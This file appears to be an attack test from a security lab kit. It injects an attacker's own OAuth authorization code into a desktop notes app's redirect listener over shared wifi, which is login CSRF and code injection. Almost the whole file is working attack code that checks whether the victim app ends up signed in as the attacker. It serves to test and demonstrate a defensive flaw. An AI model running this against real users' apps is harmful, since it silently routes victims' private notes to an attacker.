/**
 * Alice is in a café. She clicks "Sign in" in her Notes desktop app; it opens a listener for the
 * redirect, and her browser shows the sign-in page. Mallory, on the same wifi, signs in to the
 * same authorization server with her OWN account, keeps the code instead of following the
 * redirect, and sends it to the listener on alice's laptop. If the app redeems it, alice's app
 * is signed in to mallory's account, and every note alice writes from now on goes to mallory
 * (login CSRF, RFC 9700 §4.7; authorization code injection, §4.5).
 */
import { blocked, defineAttack, worked } from '@authlab/lab-kit';
import { addressFromTheWifi } from './another-machine.ts';

export default defineAttack({
  title: "send mallory's own authorization code to alice's sign-in listener from the café wifi",
  why:
    "the app's redirect listener answers on every network interface and redeems any code it is sent, " +
    'without checking that the answer belongs to its own request (state, PKCE)',
  async run(lab) {
    // Alice clicks "Sign in": her app opens its listener.
    const signIn = await fetch(`${lab.url}/sign-in`, { method: 'POST' });
    const { listenerPort } = (await signIn.json()) as { listenerPort: number };
    // Mallory finds the port with a port scan of alice's laptop; here we take it from the answer.

    // Mallory asks for a code with the app's public client_id and a redirect to that port, signs
    // in as herself, and keeps the code instead of following the redirect.
    const authorize = new URL('/authorize', lab.url);
    authorize.search = new URLSearchParams({
      response_type: 'code',
      client_id: 'notes-desktop',
      redirect_uri: `http://127.0.0.1:${listenerPort}/callback`,
      state: 'whatever',
    }).toString();
    const login = await fetch(authorize, {
      method: 'POST',
      body: new URLSearchParams({ username: 'mallory', password: 'mallory-signs-up-too' }),
      redirect: 'manual',
    });
    if (login.status !== 303) throw new Error(`mallory's own sign-in answered ${login.status}, not 303`);

    // The redirect she did not follow goes to alice's laptop instead, over the wifi.
    const callback = new URL(login.headers.get('location') ?? '');
    callback.hostname = await addressFromTheWifi();
    let delivered: Response;
    try {
      delivered = await fetch(callback);
    } catch (error) {
      const reason = (error as { cause?: { code?: string } }).cause?.code ?? (error as Error).message;
      return blocked(`alice's listener did not answer on ${callback.host}, her laptop seen from the wifi (${reason})`);
    }
    const { user } = (await (await fetch(`${lab.url}/whoami`)).json()) as { user: string | null };
    if (user === 'mallory') {
      return worked(
        `GET ${callback.origin}/callback with mallory's code answered ${delivered.status}, and ` +
          `alice's app now says it is signed in as "mallory"`,
      );
    }
    return blocked(`the listener answered ${delivered.status}; alice's app is signed in as ${JSON.stringify(user)}`);
  },
});
